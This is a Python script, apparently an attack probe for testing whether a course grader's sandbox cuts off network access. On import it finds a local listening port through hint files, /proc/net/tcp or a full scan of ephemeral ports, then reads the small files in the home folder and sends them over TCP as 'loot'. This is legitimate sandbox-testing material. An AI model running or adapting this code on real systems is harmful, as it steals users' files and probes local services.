# ATTACK (machine): exfiltrates over the network. Finds a port (the LICENSE_SERVER_PORT variable, ~/.license_port,
# a well-known file in /tmp (gpu-course-attack-license-port), the listening sockets in /proc/net/tcp, and,
# with no hint at all, every ephemeral port of 127.0.0.1), connects to 127.0.0.1 there (and the two ports
# either side) and sends what it can read of the home folder.
# A secure grader: the learner's process has no network; nothing connects.
import os
import socket


def _hinted():
    found = []
    if os.environ.get("LICENSE_SERVER_PORT", "").isdigit():
        found.append(int(os.environ["LICENSE_SERVER_PORT"]))
    for path in (os.path.expanduser("~/.license_port"), "/tmp/gpu-course-attack-license-port"):
        try:
            with open(path) as f:
                found.append(int(f.read().strip()))
        except (OSError, ValueError):
            pass
    try:
        with open("/proc/net/tcp") as f:
            listening = [int(line.split()[1].split(":")[1], 16) for line in f.readlines()[1:]
                         if line.split()[3] == "0A" and line.split()[1].startswith("0100007F:")]
    except (OSError, ValueError, IndexError):
        listening = []
    if not found:
        found = [p for p in listening if p >= 32768]
    return sorted({p + d for p in found for d in (0, -1, 1, -2, 2) if 0 < p + d < 65536})


def _scan():
    """No hint: every ephemeral port (a refused connection costs microseconds); a socket connected to
    itself (source port = destination port) is no listener."""
    open_ports = []
    for port in range(32768, 61000):
        with socket.socket() as s:
            s.settimeout(0.2)
            if s.connect_ex(("127.0.0.1", port)) == 0 and s.getsockname() != s.getpeername():
                open_ports.append(port)
    print(f"ATTACK tcp_connect: scanned 127.0.0.1:32768-60999, listening: {open_ports[:5]}", flush=True)
    return open_ports[:5]


def _loot() -> bytes:
    home, data = os.path.expanduser("~"), b""
    try:
        for name in sorted(os.listdir(home)):
            p = os.path.join(home, name)
            if os.path.isfile(p) and os.path.getsize(p) < 4096:
                with open(p, "rb") as f:
                    data += name.encode() + b": " + f.read() + b"\n"
    except OSError:
        pass
    return data or b"nothing"


def _exfiltrate():
    ports = _hinted() or _scan()
    for port in ports:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
                s.sendall(b"EXFIL " + _loot())
            print(f"ATTACK tcp_connect: connected to 127.0.0.1:{port} and sent the loot", flush=True)
        except OSError as exc:
            print(f"ATTACK tcp_connect: 127.0.0.1:{port}: {exc}", flush=True)
    print(f"ATTACK tcp_connect: done ({len(ports)} ports tried)", flush=True)


_exfiltrate()
